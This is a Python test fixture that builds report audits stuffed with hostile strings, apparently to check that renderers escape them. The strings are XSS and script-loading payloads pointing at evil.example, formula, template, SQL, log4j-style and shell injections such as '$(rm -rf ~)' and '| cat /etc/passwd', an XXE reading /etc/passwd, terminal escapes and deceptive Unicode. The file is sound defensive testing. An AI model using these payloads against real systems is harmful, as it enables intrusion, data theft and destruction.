"""Strings that may do nothing in a report but be read, and audits that hold them."""

from collections.abc import Callable, Iterator
from dataclasses import fields, is_dataclass, replace
from datetime import date
from enum import Enum
from functools import cache
from itertools import cycle
from typing import Any

from auditor.model import (
    Audit,
    Basis,
    Finding,
    IntegrityNote,
    Item,
    ItemState,
    MonthRow,
    MonthState,
    Narrative,
    NarrativeEvidence,
    Note,
    Notice,
    Progress,
    Reader,
    ResumeLabel,
    RunnerUp,
    Signal,
    SignalEvidence,
    Suggestion,
)
from tests.reports.audits import SOURCES, make_audit

#: would-be elements, attributes, entities and comments, in HTML, SVG, JS and CSS
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(3)>",
    "<IMG SRC=`javascript:alert(4)`>",
    "\"><img src=x onerror='alert(5)'>",
    "'><svg/onload=alert(6)>",
    '" autofocus onfocus="alert(7)',
    "' onmouseover='alert(8)",
    "x onclick=alert(9) y",
    "<svg><script>alert(10)</script></svg>",
    "</svg><script>alert(11)</script>",
    "</text></svg><foreignObject><body onload=alert(12)>",
    '<use href="data:image/svg+xml,<svg onload=alert(13)>#x"/>',
    '<animate attributeName="href" to="javascript:alert(14)"/>',
    '<set attributeName="onload" to="alert(15)"/>',
    "<iframe srcdoc='<script>alert(16)</script>'></iframe>",
    "<object data=data:text/html,alert(17)></object>",
    "<embed src=//evil.example/a.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "</style><script>alert(18)</script>",
    "</title><script>alert(19)</script>",
    "</textarea></noscript></template><b>out</b>",
    "<form action=//evil.example><button>Go on</button></form>",
    "<input type=hidden name=x value=y>",
    "<details open ontoggle=alert(20)>",
    "<math><mi xlink:href=javascript:alert(21)>x</mi></math>",
    "<a href=//evil.example>open me</a>",
    "<marquee onstart=alert(22)>hi</marquee>",
    "<!-- a comment --><b>bold</b>",
    "--><script>alert(23)</script><!--",
    "<!--><script>alert(24)</script>",
    "<![CDATA[<script>alert(25)</script>]]>",
    "]]><script>alert(26)</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<!DOCTYPE html><h1>Another page</h1>",
    "<?php system('id'); ?>",
    "&lt;script&gt;alert(27)&lt;/script&gt;",
    "&#60;script&#62;alert(28)&#60;/script&#62;",
    "&#x3C;b&#x3E;x &amp;lt; &nbsp; &NotAnEntity; &copy &#0; &#xD800;",
    "<<<<>>>>&&&&\"\"\"\"''''",
    "<b",
    "</",
    "<\x00script>alert(29)</script>",
    "<scr\u200bipt>alert(30)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(31)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(32)+ADw-/script+AD4-",
    "';alert(33);//",
    '";alert(34);//',
    "\\';alert(35);//",
    "</script/x><img/src/onerror=alert(36)>",
    "`${alert(37)}`",
    '{"__proto__": {"polluted": true}}',
    "javascript\u2028alert(38)\u2029",
    "expression(alert(39));background:url(javascript:alert(40))",
    "} body { display: none } .x {",
    "@import url(//evil.example/x.css);",
    "\\3c script\\3e alert(41)",
    "url(#clip);fill:red;}</style>",
)

#: what programs that read a table, a template, a format or a path would run
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__mro__}",
    "{subject.name!r:>1000000}",
    "%s%s%s%n%n%n",
    "%(password)s",
    "$(rm -rf ~)",
    "`rm -rf ~`",
    "; rm -rf ~ #",
    "| cat /etc/passwd",
    "--out=/etc/passwd",
    "$HOME ${PATH} %USERPROFILE% ~root",
    "::set-output name=x::y",
    "::error file=x::a command of a runner",
    "$x$ and $$y$$ \\(z\\) \\[w\\]",
    "$\\href{https://evil.example}{a}$",
    "[b]bold[/b] [bold red]x[/bold red] [link=https://evil.example]y[/link]",
    "[/]",
    "\\frac{1}{2} $\\mathdefault{x}$",
    "'; DROP TABLE answers; --",
)

#: Markdown: links, pictures, blocks, tables, mentions
MARKDOWN = (
    "[open](https://evil.example)",
    "![seen](https://evil.example/pixel.png)",
    "[open](javascript:alert(1))",
    "[open](<https://evil.example> 'title')",
    "[open][ref]",
    "[ref]: https://evil.example 'title'",
    "[open]",
    "![timeline.png]",
    "[a]: javascript:alert(2)\n\n[a]",
    "](https://evil.example)",
    "![](https://evil.example)](https://evil.example)[",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "<https://evil.example>",
    "<someone@evil.example>",
    "https://evil.example/auto",
    "http://evil.example/auto?a=(b)",
    "www.evil.example",
    "x www.evil.example/y z",
    "ftp://evil.example/file",
    "//evil.example/x",
    "someone@evil.example",
    "mailto:someone@evil.example",
    "xmpp:someone@evil.example/room",
    "(https://evil.example/in-brackets)",
    "HTTPS://EVIL.EXAMPLE/LOUD",
    "https://evil.example/trailing).",
    "_https://evil.example/_ *www.evil.example* ~http://evil.example~",
    "# A heading",
    "###### A small heading #",
    "A heading\n===",
    "A heading\n---",
    "---",
    "***",
    "> quoted",
    "> [!WARNING]\n> An alert",
    "- item",
    "* item",
    "+ item",
    "1. item",
    "1) item",
    "2026. A year",
    "- [ ] task",
    "[x] done",
    "    indented code",
    "\tindented code",
    "```\nfenced\n```",
    "~~~ sh\nfenced",
    "`code`",
    "``co`de``",
    "`unclosed",
    "``` mermaid",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b | c",
    "\\| escaped pipe \\\\| twice",
    "|---|---|",
    "*emphasis* **strong** ***both*** _under_ __double__",
    "snake_case_name __init__",
    "~~struck~~ ~one~",
    "a\\",
    "\\",
    "\\\\",
    "\\*not emphasis\\*",
    "two blanks at the end  ",
    "a  \nhard break",
    "[^1]",
    "[^1]: a footnote",
    "a footnote[^note] and ^[inline]",
    "@octocat",
    "hello @octocat and @octo-org/team!",
    "(@octocat)",
    "#1",
    "fixes #123",
    "closes octo-org/repo#123",
    "octo-org/repo@1a2b3c4d5e6f708192a3b4c5d6e7f80912345678",
    "GH-123",
    "1a2b3c4d5e6f708192a3b4c5d6e7f80912345678",
    ":smile: :+1: :octocat:",
    "12:30:45",
    "<details><summary>x</summary>y</details>",
    "</details>",
    "</summary></details><h1>out</h1>",
    "<br><hr><sub>x</sub>",
    "<!--\nunclosed comment",
    "<div>\n\n# in a block\n\n</div>",
    "<pre>",
    "<x@y",
    "term\n: definition",
    "*[HTML]: abbreviation",
    "--- title: x ---",
    "&#64;octocat &commat;octocat &num;1 &#104;ttps://evil.example",
)

#: what a terminal would act on
ESCAPES = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1;1H\x1b[K",
    "\x1b[?1049h\x1b[?25l",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x1b\\open\x1b]8;;\x1b\\",
    "\x1b]8;;file:///etc/passwd\x07open\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b_application\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bc\x1b(0lqqk",
    "\x9b31mred by C1",
    "\x9d0;a title by C1\x9c",
    "\x90q by C1\x9c",
    "\x07\x07\x07bell",
    "back\x08\x08\x08\x08over",
    "over\rwritten",
    "tab\there\vand\fthere",
    "\x0e shifted out \x0f",
    "\x00NUL\x00",
    "\x7fdelete",
    "\x05\x1b[c\x1b[6n answer back",
    "\x1b",
    "\u241b[31m and ^[[31m and \\x1b[31m and \\e[31m",
)

#: what turns text around, hides it, or piles it up
UNSEEN = (
    "\u202egnp.exe\u202c",
    "abc\u202dabc\u202c",
    "\u202a\u202b\u202c left open",
    "\u2066\u2067\u2068 isolates left open",
    "\u2069\u202c closed too often",
    "\u200e\u200f\u061c marks",
    "gho\u200bst",
    "zero\u200cwidth\u200djoiners",
    "word\u2060joiner \ufeffbom",
    "soft\xadhyphen",
    "\u180e\u115f\u1160\u3164\uffa0\u2800",
    "inter\u2061vi\u2062si\u2063ble\u2064",
    "tags \U000e0041\U000e0042\U000e007f",
    "variants \ufe0f \ufe0e \U000e0100",
    "\u206a\u206b\u206c\u206d\u206e\u206f",
    "Z\u0351\u0369\u0310" + "\u0300\u0301\u0302\u0303" * 40 + "algo",
    "a" + "\u20dd\u20de" * 60,
    "\u0e49" * 80,
    "\ud800 high",
    "\udfff low",
    "\udc80\udcff from a path",
    "\ufffe \uffff nonchar",
    "\U0001fffe\U0010ffff far nonchar",
    "\ufdd0\ufdef",
    "\ue000\U000f0000 private use",
    "\ufff9ruby\ufffaannotation\ufffb",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1e9\U0001f1ea \U0001f44b\U0001f3ff 1\ufe0f\u20e3",
)

#: names that are real ones somewhere, and some that only look like others
NAMES = (
    "\u05e0\u05d5\u05e2\u05d4 \u05d1\u05e8",
    "\u0646\u0648\u0631\u0627 (\u0627\u0644\u0623\u0648\u0644\u0649) 2026",
    "\u0646\u06cc\u0645\u200c\u0641\u0627\u0635\u0644\u0647",
    "\u5c71\u7530 \u82b1\u5b50",
    "\u0939\u093f\u0928\u094d\u0926\u0940",
    "\u0130stanbul \u0131 \xdf \ufb03",
    'O\'Neil-Smith "the" & Sons <est. 1990>',
    "g\u0456thub.com",
    "\u0440\u0430\u0443pal",
    "\uff47\uff49\uff54\uff48\uff55\uff42",
    "K\u212a \u2126 \ufb01le",
    "null",
    "None",
    "NaN",
    "true",
    "undefined",
    "0",
    "-1",
    "",
    " ",
    "\n",
    "\u00a0\u2003\u3000",
    "constructor",
    "__proto__",
    "x" * 5000,
    "W" * 300 + " " + "i" * 300,
    "\u5c71" * 400,
    "wo-rd/" * 200,
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    "one\u0085two",
    "one\u2028two\u2029three",
    "one\x1ctwo\x1dthree\x1efour",
    "\n\n\n\n# after lines\n\n",
)

#: what a link may not lead to, and paths
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    " javascript:alert(3)",
    "\x01javascript:alert(4)",
    "java\tscript:alert(5)",
    "java\nscript:alert(6)",
    "javascript\x00:alert(7)",
    "javascript&colon;alert(8)",
    "javascript&#58;alert(9)",
    "javascript%3aalert(10)",
    "javascript://https://example.org/%0aalert(11)",
    "data:text/html,<script>alert(12)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(14)'/>",
    "vbscript:msgbox(15)",
    "VBScript:msgbox(16)",
    "file:///etc/passwd",
    "FILE://evil.example/share",
    "blob:https://example.org/x",
    "about:blank",
    "view-source:https://example.org",
    "intent://x#Intent;scheme=http;end",
    "ms-word:ofe|u|https://evil.example/x.docx",
    "tel:+1",
    "\\\\evil.example\\share",
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "https://",
    "https://@/",
    "https://github.com@evil.example/",
    "https://github.com:pass@evil.example/",
    "https://github.com%2f@evil.example/",
    "https://github.com\\@evil.example/",
    "https://evil.example#@github.com/",
    "https://ev\u0456l.example/",
    "https://evil.example/\u202egnp.exe",
    "https://evil\u3002example/",
    "https://[::1]/",
    "https://[::1",
    "https://evil.example:99999/",
    "https://evil.example:port/",
    "https://evil.example/a b)(c][<d>\"e'f`g|h\\i{j}^k*l_m~n",
    "https://evil.example/\n# heading",
    'https://evil.example/"onmouseover="alert(17)',
    "https://evil.example/?a=1&lt;b&amp=2&copy=3",
    "https://evil.example/%00%0d%0aSet-Cookie:x",
    "https://evil.example/%zz%",
    "ht\ttps://evil.example/",
    "https\u003a//evil.example/",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd\x00.png",
    "CON.txt",
    "timeline.png",
    "swh:1:rev:1a2b3c4d5e6f708192a3b4c5d6e7f80912345678",
    "urn:uuid:0",
    "?q=x",
    "#fragment",
)

STRINGS: tuple[str, ...] = (
    *MARKUP,
    *FORMULAS,
    *MARKDOWN,
    *ESCAPES,
    *UNSEEN,
    *NAMES,
    *ADDRESSES,
)

#: what no text from outside ever reaches: codes and months that were made here
_OURS = frozenset(
    {
        ("Audit", "schema_version"),
        ("AuditSettings", "tz"),
        ("AuditSettings", "education"),
        ("Gap", "start"),
        ("Gap", "end"),
        ("MonthRow", "month"),
        ("Resume", "as_of"),
        ("ResumeSpan", "start"),
        ("ResumeSpan", "end"),
        ("ResumeSpan", "kind"),
        ("Signal", "state"),
        ("Undecided", "start"),
        ("Undecided", "end"),
    }
)
#: the plugin that goes by a hostile name, and the others
_STRANGER = "forge"
_PLUGINS = frozenset(SOURCES) - {_STRANGER}
#: fields that hold an address
_ADDRESSED = frozenset({"url", "where", "before", "after", "artifacts", "strike"})
_DAY = date(2026, 3, 5)
_YEARS = 5
_STATES = ("current", "recent", "dated", "mention", "absent")


@cache
def full_audit() -> Audit:
    """Return an audit that has something in every section."""
    made = make_audit(years=_YEARS, lanes=8, quiet=3, unknown=2)
    assert made.resume
    gaps = tuple(
        replace(gap, finding=finding, labels=("x",), own_words=("x",))
        for gap, finding in zip(made.resume.gaps * 2, Finding, strict=True)
    )
    return replace(
        made,
        subject=replace(
            made.subject,
            handles=tuple(
                replace(h, url="x", named_by=("x", "x")) for h in made.subject.handles
            ),
        ),
        settings=replace(made.settings, count=("x",), have=("x",), strike=("x",)),
        sources=tuple(
            replace(s, warnings=(Notice(code="x", message="x"),)) for s in made.sources
        ),
        # enough to be drawn, and few enough to be made some hundred times
        days=made.days[::9],
        months=tuple(_months()),
        artifacts=tuple(
            replace(a, title="x", tags=("x", "x"), metrics={"x": "x", "n": 3})
            for a in made.artifacts
        ),
        resume=replace(made.resume, warnings=("x", "x"), gaps=gaps),
        quiet_periods=tuple(
            replace(
                p,
                meanwhile=("x", "x"),
                own_words=("x",),
                before="x",
                after="x",
                silent_sources=("github", _STRANGER),
                blind_sources=("kaggle", _STRANGER),
            )
            for p in made.quiet_periods
        ),
        signals=tuple(_signals()),
        suggestion=_suggestion(),
        progress=(_progress(),),
        narrative=_narrative(),
        integrity=(IntegrityNote(check="x", where="x", count=3, of=40, sentence="x"),),
        notes=(
            Note(since=_DAY, until=None, text="x"),
            Note(since=_DAY, until=_DAY, text="x"),
        ),
        limits=("x", "x"),
    )


def _months() -> Iterator[MonthRow]:
    states = cycle(MonthState)
    for number in range(_YEARS * 12):
        yield MonthRow(
            month=f"{2027 - _YEARS + number // 12}-{number % 12 + 1:02}",
            state=next(states),
            active_days=number % 9 if number % 4 == 0 else 0,
            resume=ResumeLabel.GAP if number % 7 else ResumeLabel.EMPLOYED,
        )


def _signals() -> Iterator[Signal]:
    for level, state in enumerate(_STATES):
        found = tuple(
            SignalEvidence(url="x", date=_DAY, why="x", level=rank, basis=basis)
            for rank, basis in zip((4, 3, 1), Basis, strict=True)
        )
        yield Signal(
            id=f"skill-{level}",
            label="x",
            level=4 - level,
            state=state,
            first=_DAY if level < 3 else None,
            last=_DAY if level < 3 else None,
            evidence=found if level < 4 else (),
        )


def _suggestion() -> Suggestion:
    return Suggestion(
        id="x",
        title="x",
        why=("x", "x"),
        proves=("x",),
        hours=30,
        steps=("x", "x"),
        acceptance=("x", "x"),
        terms={"x": 1.0, "value": 61.8},
        close_call=True,
        runners_up=(
            RunnerUp(id="x", title="x", score=1.0),
            RunnerUp(id="x", title="x", score=0.9),
        ),
        stability=0.87,
        flips=("x", "x"),
        source="x",
    )


def _progress() -> Progress:
    items = tuple(Item(text="x", state=s, url="x", why="x") for s in ItemState)
    return Progress(id="x", title="x", url="x", items=items)


def _narrative() -> Narrative:
    return Narrative(
        resume_line="x",
        cover_letter="x",
        interview="x",
        resume_line_years="x",
        warnings=("x", "x"),
        assisted=True,
        evidence=tuple(
            NarrativeEvidence(id="x", url="x", text="x", day=_DAY, level=level)
            for level in (3, 2)
        ),
    )


def hostile_audit(text: str, reader: Reader = Reader.SELF) -> Audit:
    """Return an audit in which ``text`` stands wherever text from outside may stand.

    Addresses are the text itself and, in turn, an address of the web that ends in it.
    For another reader the parts are left out that such an audit never has.
    """
    given = cycle((text, f"https://example.org/{text}"))
    made = Exchange(lambda: text, lambda: next(given))
    return _for(reader, made.within(full_audit()))


def hostile_audits() -> Iterator[Audit]:
    """Return an audit for each string, in the order of ``STRINGS``."""
    return (hostile_audit(text) for text in STRINGS)


def mixed_audits(reader: Reader = Reader.SELF) -> Iterator[Audit]:
    """Return few audits that hold all the strings between them, many in each."""
    left = list(reversed(STRINGS))
    addresses = cycle(STRINGS)
    while left:
        made = Exchange(lambda: left.pop() if left else "x", lambda: next(addresses))
        yield _for(reader, made.within(full_audit()))


def _for(reader: Reader, audit: Audit) -> Audit:
    """Return it as another reader gets it, or as it is."""
    if reader is Reader.SELF:
        return audit
    return replace(
        audit,
        reader=reader,
        consent_ref=audit.subject.name,
        expires=date(2026, 12, 1),
        suggestion=None,
        progress=(),
        narrative=None,
        integrity=(),
        signals=tuple(s for s in audit.signals if s.state != "absent"),
    )


class Exchange:
    """Puts other texts where texts from outside stand; fields to come are covered."""

    def __init__(self, text: Callable[[], str], address: Callable[[], str]) -> None:
        self._text = text
        self._address = address
        #: a plugin has one name in all of an audit
        self._stranger = text()

    def within(self, value: Any) -> Any:
        """Return a dataclass with its strings exchanged, and those of its parts."""
        owner = type(value).__name__
        names = [f.name for f in fields(value) if (owner, f.name) not in _OURS]
        told = {name: self._of(name, getattr(value, name)) for name in names}
        return replace(value, **told)

    def _of(self, name: str, value: Any) -> Any:
        if isinstance(value, Enum):
            return value
        if isinstance(value, str):
            return self._instead(name, value)
        if isinstance(value, tuple):
            return tuple(self._of(name, item) for item in value)
        if isinstance(value, dict):
            return {self._of("", k): self._of("", v) for k, v in value.items()}
        return self.within(value) if is_dataclass(value) else value

    def _instead(self, name: str, value: str) -> str:
        if value in _PLUGINS:
            return value
        if value == _STRANGER:
            return self._stranger
        return self._address() if name in _ADDRESSED else self._text()
